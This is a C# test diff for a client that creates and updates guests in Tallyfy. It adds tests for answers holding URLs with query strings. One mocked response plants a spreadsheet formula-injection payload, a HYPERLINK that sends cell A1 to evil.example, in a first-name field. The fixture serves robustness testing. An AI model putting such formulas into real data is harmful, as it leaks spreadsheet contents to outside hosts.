@@ -73,4 +73,30 @@ public class GuestUpdaterTests
         Assert.That(result.Outcome, Is.EqualTo(Outcome.Failed));
         Assert.That(result.Message, Does.Contain("does not hold"));
     }
+
+    /// <summary>Answers are scrubbed of URL queries before they are shown, never before they are read.</summary>
+    [Test]
+    public async Task Update_AUrlWithAQuery_TheSameAsTallyfyHolds_IsUnchanged()
+    {
+        using var harness = new DeliveryHarness(updateExisting: true);
+        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond((HttpStatusCode)422, "application/json", DeliveryHarness.Taken);
+        harness.Http.Expect(HttpMethod.Get, GuestUrl).Respond(HttpStatusCode.OK, "application/json",
+            """{"data":{"id":4523,"first_name":"Gus","details":{"company_name":"Acme","company_url":"https://acme.example/?ref=hr"}}}""");
+
+        var result = await harness.SendAsync(DeliveryHarness.Guest() with { CompanyUrl = "https://acme.example/?ref=hr" });
+
+        Assert.That((result.Outcome, result.Reason), Is.EqualTo((Outcome.Skipped, Outcomes.Unchanged)), result.Message);
+    }
+
+    [Test]
+    public async Task Create_AnAnswerHoldingAUrlWithAQuery_StillGivesTheGuestsId()
+    {
+        using var harness = new DeliveryHarness();
+        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond(HttpStatusCode.Created, "application/json",
+            """{"data":{"id":4523,"email":"g@x.example","first_name":"=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")"}}""");
+
+        var result = await harness.SendAsync(DeliveryHarness.Guest());
+
+        Assert.That((result.Outcome, result.TallyfyId), Is.EqualTo((Outcome.Created, "4523")), result.Message);
+    }
 }
